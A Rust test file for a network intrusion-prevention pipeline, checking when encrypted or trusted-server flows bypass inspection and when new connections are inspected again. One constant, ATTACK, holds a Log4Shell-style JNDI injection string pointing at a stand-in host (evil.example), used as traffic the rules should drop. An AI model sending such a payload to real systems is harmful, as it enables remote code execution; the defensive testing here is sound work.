//! Flows that pass without a further look: here and where the port layer passes them on by itself.

use dataplane::decode::checksum::{fold, pseudo_header};
use dataplane::flow::{Elsewhere, protocol};
use dataplane::pipeline::{Handling, Side};
use dataplane::policy::{Bypass, BypassCause, IpNetwork, Mode, Trusted};
use serde_json::Value;

use super::*;

const NS_PER_S: u64 = 1_000_000_000;
const CLIENT: ([u8; 4], u16) = ([198, 51, 100, 9], 40_000);
const SERVER: ([u8; 4], u16) = ([192, 0, 2, 1], 443);
/// What a default rule would reset.
const ATTACK: &[u8] = b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: a.example\r\n\r\n";

struct Bench {
    worker: Worker<MemoryQueue, Lines>,
    now_ns: u64,
}

impl Bench {
    fn new(bypass: Bypass, mode: Mode, settled_max: usize) -> Bench {
        let rules = Arc::new(RuleSet::compile(&default_packs()).expect("the packs compile"));
        let settings = Settings { flows_max: 1024, hands_over: true, bypass, mode, ..Settings::default() };
        let queue = MemoryQueue { settled_max, ..MemoryQueue::default() };
        Bench { worker: Worker::new(queue, Pipeline::new(settings, rules), Lines::default(), 0), now_ns: 0 }
    }

    /// Lets a frame arrive, a millisecond after the one before. Whether it was forwarded.
    fn arrives(&mut self, frame: &[u8]) -> bool {
        let before = self.counters().forwarded;
        self.now_ns += 1_000_000;
        self.worker.io().arriving[arrival(frame) as usize].push_back(frame.to_vec());
        self.worker.turn(self.now_ns);
        self.counters().forwarded > before
    }

    fn all_arrive(&mut self, frames: &[Vec<u8>]) {
        for (index, frame) in frames.iter().enumerate() {
            assert!(self.arrives(frame), "frame {index}");
        }
    }

    fn counters(&self) -> &Counters {
        self.worker.pipeline().counters()
    }

    fn flows_bypassed(&self, cause: BypassCause) -> u64 {
        self.counters().flows_bypassed[cause as usize]
    }

    /// The events of flows that are over by the end.
    fn finish(self) -> Vec<Value> {
        let (_, lines) = super::finish(self.worker, self.now_ns + 1);
        let text = String::from_utf8(lines.0.into_values().flatten().collect()).expect("UTF-8");
        let events = text.lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON"));
        events.filter(|event| event["event_type"] == "flow").map(|event| event["flow"].clone()).collect()
    }
}

fn record(kind: u8, fragment: &[u8]) -> Vec<u8> {
    let length = (fragment.len() as u16).to_be_bytes();
    [&[kind, 3, 3][..], &length, fragment].concat()
}

/// A connection that speaks TLS 1.3 up to the first record of application data of both ends.
fn tls() -> Conversation {
    let client_hello = record(22, &[&[1, 0, 0, 60, 3, 3][..], &[7; 58]].concat());
    let server_hello = record(22, &[&[2, 0, 0, 40, 3, 3][..], &[7; 32], &[0, 0x13, 0x01, 0]].concat());
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    both.send(Direction::ToServer, &client_hello);
    both.send(Direction::ToClient, &[server_hello, record(20, &[1]), record(23, &[9; 300])].concat());
    both.send(Direction::ToServer, &[record(20, &[1]), record(23, &[9; 53])].concat());
    both
}

/// Leaves the checksum of a segment to a device, as a kernel does on veth.
fn leave_checksum(frame: &mut [u8]) {
    let segment_bytes = (frame.len() - TCP_OFFSET) as u32;
    let [source, destination] =
        [26, 30].map(|at| std::net::IpAddr::from(*frame[at..].first_chunk::<4>().expect("an IPv4 header")));
    let sum = fold(pseudo_header(source, destination, protocol::TCP, segment_bytes));
    frame[TCP_OFFSET + 16..TCP_OFFSET + 18].copy_from_slice(&sum.to_be_bytes());
}

fn encrypted() -> Bypass {
    Bypass { encrypted: true, trusted: Vec::new() }
}

fn trusted(after_bytes: u64) -> Bypass {
    let network = IpNetwork::new(SERVER.0.into(), 32).expect("a network");
    let trusted = Trusted { network, port: Some(SERVER.1), protocol: protocol::TCP, after_bytes };
    Bypass { encrypted: false, trusted: vec![trusted] }
}

#[test]
fn what_both_ends_encrypt_passes_unseen_where_the_operator_says_so() {
    for (bypass, mode, expected) in [
        (encrypted(), Mode::Protect, true),
        (encrypted(), Mode::Monitor, true),
        (Bypass::default(), Mode::Protect, false),
    ] {
        let mut bench = Bench::new(bypass, mode, 1);
        let mut both = tls();
        both.send(Direction::ToClient, &record(23, &[9; 1000]));
        bench.all_arrive(&both.into_frames());
        assert_eq!(bench.flows_bypassed(BypassCause::Encrypted), u64::from(expected), "{mode:?}");
        let client_side =
            Some(if arrival(&tls().into_frames()[0]) == Port::Inside { Side::Inside } else { Side::Outside });
        let handlings = if expected { vec![Handling::PassOn { client_side }] } else { Vec::new() };
        assert_eq!(bench.worker.io().handlings, handlings);
        assert!(bench.counters().bypassed >= u64::from(expected), "a frame that came here passed here");
        let flows = bench.finish();
        assert_eq!(flows[0]["bypassed"].as_str(), expected.then_some("encrypted"), "{flows:?}");
    }
}

#[test]
fn frames_passed_on_elsewhere_are_in_the_event() {
    let mut bench = Bench::new(encrypted(), Mode::Protect, 1);
    let frames = tls().into_frames();
    bench.all_arrive(&frames);
    let done = Elsewhere { frames: [70, 30], bytes: [7000, 3000], last_ns: Some(NS_PER_S) };
    bench.worker.io().settled.values_mut().for_each(|elsewhere| *elsewhere = done);
    let flows = bench.finish();
    let found = [&flows[0]["pkts_toserver"], &flows[0]["pkts_toclient"]]
        .map(|count| count.as_u64().expect("a count"));
    assert_eq!(found.iter().sum::<u64>(), 100 + frames.len() as u64);
    assert_eq!(flows[0]["state"], "established");
}

#[test]
fn a_flow_whose_checksums_are_partial_stays_here_and_is_completed() {
    let mut bench = Bench::new(encrypted(), Mode::Protect, 1);
    let mut frames = tls().into_frames();
    let partial = frames.last_mut().expect("frames");
    leave_checksum(partial);
    bench.all_arrive(&frames);
    assert!(bench.worker.io().handlings.is_empty());
    assert_eq!(bench.flows_bypassed(BypassCause::Encrypted), 1);
    let completed = bench.counters().checksums_completed;
    let again = frames.last().expect("frames").clone();
    assert!(bench.arrives(&again));
    assert_eq!(bench.counters().checksums_completed, completed + 1, "in a bypassed flow too");
}

#[test]
fn a_syn_ends_a_bypassed_flow_and_what_it_opens_is_inspected() {
    let mut bench = Bench::new(encrypted(), Mode::Protect, 1);
    let frames = tls().into_frames();
    bench.all_arrive(&frames);
    assert_eq!(bench.worker.io().settled.len(), 1);
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    both.send(Direction::ToServer, ATTACK);
    let again = both.into_frames();
    let (attack, opening) = again.split_last().expect("frames");
    for frame in opening {
        assert!(bench.arrives(frame));
        assert!(bench.worker.io().settled.is_empty(), "from its SYN on nobody passes on what follows");
    }
    assert!(!bench.arrives(attack));
    let flows = bench.finish();
    assert_eq!(
        (flows.len(), &flows[0]["reason"], &flows[0]["bypassed"]),
        (2, &"tcp_reuse".into(), &"encrypted".into())
    );
    assert_eq!(flows[1]["drop_reason"], "rule");
}

#[test]
fn a_syn_with_a_fin_opens_nothing_unseen() {
    let mut bench = Bench::new(encrypted(), Mode::Protect, 1);
    bench.all_arrive(&tls().into_frames());
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    let mut syn = both.into_frames().swap_remove(0);
    // The flags are the lower half of a word of the checksum.
    syn[TCP_OFFSET + 13] |= 1;
    let checksum = u16::from_be_bytes([syn[TCP_OFFSET + 16], syn[TCP_OFFSET + 17]]);
    syn[TCP_OFFSET + 16..TCP_OFFSET + 18].copy_from_slice(&(checksum - 1).to_be_bytes());
    assert!(!bench.arrives(&syn));
    assert!(bench.worker.io().settled.is_empty(), "nobody passes on what follows");
}

#[test]
fn resets_and_ends_of_a_bypassed_flow_only_let_it_be_forgotten_sooner() {
    let mut bench = Bench::new(encrypted(), Mode::Protect, 1);
    let mut both = tls();
    both.close();
    let frames = both.into_frames();
    bench.all_arrive(&frames);
    assert_eq!(bench.worker.io().settled.len(), 1, "what follows its end is not inspected as anything else");
    bench.worker.turn(bench.now_ns + 61 * NS_PER_S);
    assert!(bench.worker.io().settled.is_empty());
    let flows = bench.finish();
    assert_eq!((&flows[0]["reason"], &flows[0]["state"]), (&"timeout".into(), &"closed".into()));
}

#[test]
fn a_long_flow_of_a_trusted_server_is_inspected_up_to_its_length() {
    let mut bench = Bench::new(trusted(2_000), Mode::Protect, 1);
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    both.send(
        Direction::ToServer,
        b"PUT /backup HTTP/1.1\r\nHost: a.example\r\nContent-Length: 100000\r\n\r\n",
    );
    both.send(Direction::ToServer, &[b'x'; 900]);
    both.send(Direction::ToServer, &[b'x'; 900]);
    bench.all_arrive(&both.into_frames());
    assert_eq!(bench.flows_bypassed(BypassCause::Trusted), 1, "in the middle of a message");
    let flows = bench.finish();
    assert_eq!(flows[0]["bypassed"], "trusted");

    let mut bench = Bench::new(trusted(0), Mode::Protect, 1);
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    let frames = both.into_frames();
    assert!(bench.arrives(&frames[0]));
    assert_eq!(bench.flows_bypassed(BypassCause::Trusted), 0, "one end alone proves nothing");
    bench.all_arrive(&frames[1..]);
    assert_eq!(bench.flows_bypassed(BypassCause::Trusted), 1);
}

#[test]
fn a_frame_that_a_rule_stops_makes_no_flow_trusted() {
    let mut bench = Bench::new(trusted(300), Mode::Protect, 1);
    let mut both = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    both.open();
    both.send(Direction::ToServer, ATTACK);
    let frames = both.into_frames();
    let (attack, opening) = frames.split_last().expect("frames");
    bench.all_arrive(opening);
    assert_eq!(bench.flows_bypassed(BypassCause::Trusted), 0);
    assert!(!bench.arrives(attack));
    assert_eq!(
        (bench.flows_bypassed(BypassCause::Trusted), &bench.worker.io().handlings[..]),
        (0, &[Handling::Drop][..])
    );
}

#[test]
fn of_a_connection_that_was_under_way_nobody_is_trusted() {
    let mut whole = Conversation::new([CLIENT, SERVER].map(SocketAddr::from), &[]);
    whole.open();
    for direction in [Direction::ToServer, Direction::ToClient, Direction::ToServer] {
        whole.send(direction, &[b'x'; 700]);
    }
    let frames = whole.into_frames();
    for (frames_missed, expected) in [(0, 1), (3, 0)] {
        let mut bench = Bench::new(trusted(600), Mode::Protect, 1);
        bench.all_arrive(&frames[frames_missed..]);
        assert_eq!(bench.flows_bypassed(BypassCause::Trusted), expected, "{frames_missed} frames missed");
    }
}
